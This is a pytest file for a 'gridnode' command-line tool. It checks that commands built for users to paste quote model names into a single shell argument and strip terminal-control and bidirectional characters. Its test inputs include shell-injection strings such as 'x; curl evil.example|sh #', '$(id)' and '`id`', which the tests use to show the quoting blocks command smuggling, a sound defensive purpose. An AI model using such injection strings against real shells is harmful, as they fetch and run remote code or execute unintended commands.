"""Commands for people to paste are one command each, whatever strangers call their things."""

from __future__ import annotations

import shlex

import pytest

from gridnode.commands import argument, up_command
from gridnode.errors import NoRoute


def test_what_is_empty_is_left_out() -> None:
    assert up_command() == "gridnode up"
    assert (
        up_command("lab/tiny", join="192.0.2.7:7338") == "gridnode up --model lab/tiny --join 192.0.2.7:7338"
    )


@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "a'b\"c", "`id`", "~", "[::1]:7338"])
def test_a_shell_takes_a_name_for_one_argument(name: str) -> None:
    assert shlex.split(argument(name)) == [name]
    assert shlex.split(up_command(name, blocks="0:5")) == [
        "gridnode",
        "up",
        "--model",
        name,
        "--blocks",
        "0:5",
    ]


@pytest.mark.parametrize("char", ["\n", "\x1b", "\x07", "\u202e", "\u2028", "\udcff"])
def test_a_command_stays_on_its_line_and_steers_no_terminal(char: str) -> None:
    assert up_command(f"a{char}b") == "gridnode up --model 'a�b'"


def test_a_failed_answer_names_a_command_without_quotes_around_it() -> None:
    text = str(NoRoute("x; id", 30, ((10, 20), (25, 30))))
    assert text.endswith(": gridnode up --model 'x; id' --blocks 10:20")
